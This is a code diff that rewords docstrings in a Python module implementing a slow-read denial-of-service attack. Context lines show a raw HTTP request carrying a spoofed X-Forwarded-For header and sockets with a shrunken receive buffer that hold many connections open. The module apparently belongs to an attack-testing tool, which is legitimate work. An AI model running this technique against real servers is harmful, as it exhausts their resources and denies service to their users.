@@ -1,4 +1,4 @@
-"""An attack by readers who take each answer slowly, and hold as many connections as they may."""
+"""An attack by slow readers that hold the maximum number of connections."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ PAGE: Final = "/schema/openapi.json"
 
 
 def slow_readers(strike: Strike) -> None:
-    """Ask for a large page again and again on many connections, and take little of it."""
+    """Request a large page again and again on many connections, and read little of it."""
     where = urlsplit(strike.url)
     request = (
         f"GET {PAGE} HTTP/1.1\r\nHost: {where.netloc}\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n"
@@ -41,7 +41,7 @@ def slow_readers(strike: Strike) -> None:
 
 
 def opened(host: str, port: int, request: bytes) -> socket.socket:
-    """Return a connection with a small window, on which a request was sent."""
+    """Return a connection with a small receive window, on which a request was sent."""
     line = socket.socket()
     line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     line.settimeout(10)
